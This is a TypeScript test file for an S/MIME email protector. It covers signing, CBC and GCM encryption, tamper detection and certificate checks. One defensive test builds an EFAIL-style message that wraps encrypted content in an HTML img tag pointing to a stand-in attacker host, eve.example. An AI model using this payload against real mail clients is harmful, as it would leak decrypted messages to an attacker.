import { rmSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestPki, SAMPLE_MESSAGE } from '../../../test/integration/18-smime/pki.ts';
import type { TestPki } from '../../../test/integration/18-smime/pki.ts';
import type { PrivateKeyMaterial, PublicKeyMaterial } from '../types.ts';
import { checkCertificate } from './certificates.ts';
import { parseCertificates } from './der.ts';
import { createSmimeProtector } from './index.ts';

let now: Date;
let pki: TestPki;
const text = (bytes: Uint8Array): string => Buffer.from(bytes).toString('latin1');
const message = new TextEncoder().encode(SAMPLE_MESSAGE);

function privateKey(name: string): PrivateKeyMaterial {
  const user = pki.user(name);
  return { kind: 'smime', address: user.address, key: user.key, certificates: [user.cert] };
}
function publicKey(name: string): PublicKeyMaterial {
  const user = pki.user(name);
  return { kind: 'smime', address: user.address, data: user.cert };
}

beforeAll(() => {
  pki = createTestPki([
    { name: 'alice', address: 'alice@example.test', key: 'rsa' },
    { name: 'bob', address: 'bob@example.test', key: 'rsa' },
    { name: 'carol', address: 'carol@example.test', key: 'ec' },
    { name: 'nosign', address: 'nosign@example.test', key: 'rsa', keyUsage: 'critical,keyEncipherment' },
  ]);
  now = new Date(Date.now() + 2000);
}, 60_000);
afterAll(() => rmSync(pki.dir, { recursive: true, force: true }));

describe('S/MIME protector', () => {
  it('signs then encrypts (CBC), and the reader restores the protected subject with a valid verdict', async () => {
    const protector = createSmimeProtector();
    const sealed = await protector.protect(message, { sign: true, encrypt: true, recipients: [publicKey('bob'), publicKey('alice')], signer: privateKey('alice'), now });
    const outer = text(sealed);
    expect(outer).toContain('Subject: ...');
    expect(outer).not.toContain('Quarterly');
    expect(outer).toContain('smime-type=enveloped-data');
    const result = await protector.unprotect(sealed, { decryptionKeys: [privateKey('bob')], verificationKeys: [], trustAnchors: [pki.ca], now });
    expect(result.decrypted).toBe(true);
    expect(result.malleable).toBe(false);
    expect(result.signature).toMatchObject({ state: 'valid', signer: 'alice@example.test' });
    const restored = text(result.message);
    expect(restored).toContain('Subject: Quarterly numbers');
    expect(restored).not.toContain('Subject: ...');
    expect(restored).toContain('Revenue is up.');
  });

  it('uses AuthEnvelopedData when every recipient reads GCM, including an EC recipient', async () => {
    const protector = createSmimeProtector({ recipientSupportsGcm: () => true });
    const sealed = await protector.protect(message, { sign: false, encrypt: true, recipients: [publicKey('carol'), publicKey('bob')], now });
    expect(text(sealed)).toContain('smime-type=authEnveloped-data');
    for (const reader of ['carol', 'bob']) {
      const result = await protector.unprotect(sealed, { decryptionKeys: [privateKey(reader)], verificationKeys: [], now });
      expect(result).toMatchObject({ decrypted: true, malleable: false, signature: null });
      expect(text(result.message)).toContain('Subject: Quarterly numbers');
    }
  });

  it('signs with an EC (ECDSA P-256) key', async () => {
    const protector = createSmimeProtector();
    const fromCarol = new TextEncoder().encode(SAMPLE_MESSAGE.replace('From: Alice <alice@example.test>', 'From: Carol <carol@example.test>'));
    const sealed = await protector.protect(fromCarol, { sign: true, encrypt: true, recipients: [publicKey('bob')], signer: privateKey('carol'), now });
    const result = await protector.unprotect(sealed, { decryptionKeys: [privateKey('bob')], verificationKeys: [], trustAnchors: [pki.ca], now });
    expect(result.signature).toMatchObject({ state: 'valid', signer: 'carol@example.test' });
    expect(result.malleable).toBe(false);
  });

  it('never splices a decrypted part into surrounding cleartext (EFAIL): an encrypted part inside multipart/mixed stays sealed', async () => {
    const protector = createSmimeProtector();
    const sealed = text(await protector.protect(message, { sign: false, encrypt: true, recipients: [publicKey('bob')], now }));
    const sealedEntity = sealed.slice(sealed.indexOf('Content-Type: application/pkcs7-mime'));
    const wrapped = [
      'From: Eve <eve@example.test>', 'To: Bob <bob@example.test>', 'Subject: hi', 'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary="x"', '', '--x', 'Content-Type: text/html', '', '<img src="https://eve.example/?', '--x',
      sealedEntity, '--x', 'Content-Type: text/html', '', '">', '--x--', '',
    ].join('\r\n');
    const result = await protector.unprotect(new TextEncoder().encode(wrapped), { decryptionKeys: [privateKey('bob')], verificationKeys: [], now });
    expect(result.decrypted).toBe(false);
    expect(text(result.message)).not.toContain('Revenue is up.');
  });

  it('flags CBC without a signature as malleable', async () => {
    const protector = createSmimeProtector();
    const sealed = await protector.protect(message, { sign: false, encrypt: true, recipients: [publicKey('bob')], now });
    const result = await protector.unprotect(sealed, { decryptionKeys: [privateKey('bob')], verificationKeys: [], now });
    expect(result.malleable).toBe(true);
  });

  it('a changed signed message gets an invalid verdict', async () => {
    const protector = createSmimeProtector();
    const signed = await protector.protect(message, { sign: true, encrypt: false, recipients: [], signer: privateKey('alice'), now });
    expect(text(signed)).toContain('Subject: Quarterly numbers');
    const tampered = new TextEncoder().encode(text(signed).replace('Revenue is up.', 'Revenue is down'));
    const result = await protector.unprotect(tampered, { decryptionKeys: [], verificationKeys: [], trustAnchors: [pki.ca], now });
    expect(result.signature).toMatchObject({ state: 'invalid', signer: 'alice@example.test' });
    const intact = await protector.unprotect(signed, { decryptionKeys: [], verificationKeys: [], trustAnchors: [pki.ca], now });
    expect(intact.signature?.state).toBe('valid');
  });

  it('a signature from an untrusted chain is unknown-key; a From the certificate does not name is invalid', async () => {
    const protector = createSmimeProtector();
    const signed = await protector.protect(message, { sign: true, encrypt: false, recipients: [], signer: privateKey('alice'), now });
    const untrusted = await protector.unprotect(signed, { decryptionKeys: [], verificationKeys: [], trustAnchors: [pki.user('bob').cert], now });
    expect(untrusted.signature?.state).toBe('unknown-key');
    const forged = new TextEncoder().encode(SAMPLE_MESSAGE.replace('From: Alice <alice@example.test>', 'From: Bob <bob@example.test>'));
    const wrongFrom = await protector.protect(forged, { sign: true, encrypt: false, recipients: [], signer: { ...privateKey('alice'), address: 'alice@example.test' }, now });
    const verdict = await protector.unprotect(wrongFrom, { decryptionKeys: [], verificationKeys: [], trustAnchors: [pki.ca], now });
    expect(verdict.signature).toMatchObject({ state: 'invalid' });
  });

  it('a changed GCM message is refused', async () => {
    const protector = createSmimeProtector({ recipientSupportsGcm: () => true });
    const sealed = text(await protector.protect(message, { sign: false, encrypt: true, recipients: [publicKey('bob')], now }));
    const lines = sealed.split('\r\n');
    const i = lines.length - 4;
    lines[i] = (lines[i][0] === 'A' ? 'B' : 'A') + lines[i].slice(1);
    await expect(protector.unprotect(new TextEncoder().encode(lines.join('\r\n')), { decryptionKeys: [privateKey('bob')], verificationKeys: [], now })).rejects.toMatchObject({ code: 550, enhanced: '5.7.5' });
  });

  it('refuses to encrypt to an expired certificate', async () => {
    const protector = createSmimeProtector();
    const later = new Date(now.getTime() + 60 * 86_400_000);
    await expect(protector.protect(message, { sign: false, encrypt: true, recipients: [publicKey('bob')], now: later })).rejects.toThrow(/expired/);
  });
});

describe('checkCertificate', () => {
  it('checks chain, validity, key usage, address and revocation', async () => {
    const [alice] = parseCertificates([pki.user('alice').cert]);
    const [nosign] = parseCertificates([pki.user('nosign').cert]);
    const anchors = parseCertificates([pki.ca]);
    expect(await checkCertificate({ certificate: alice, use: 'sign', address: 'Alice@example.test', at: now, trustAnchors: anchors })).toEqual({ ok: true });
    expect(await checkCertificate({ certificate: alice, use: 'sign', address: 'eve@example.test', at: now })).toMatchObject({ ok: false, problem: 'address' });
    expect(await checkCertificate({ certificate: nosign, use: 'sign', at: now })).toMatchObject({ ok: false, problem: 'key-usage' });
    expect(await checkCertificate({ certificate: alice, use: 'sign', at: new Date(now.getTime() - 86_400_000 * 2) })).toMatchObject({ ok: false, problem: 'not-yet-valid' });
    expect(await checkCertificate({ certificate: alice, use: 'sign', at: now, trustAnchors: parseCertificates([pki.user('bob').cert]) })).toMatchObject({ ok: false, problem: 'untrusted' });
    const { fingerprint } = await import('./der.ts');
    expect(await checkCertificate({ certificate: alice, use: 'encrypt', at: now, revoked: new Set([fingerprint(alice)]) })).toMatchObject({ ok: false, problem: 'revoked' });
  });
});
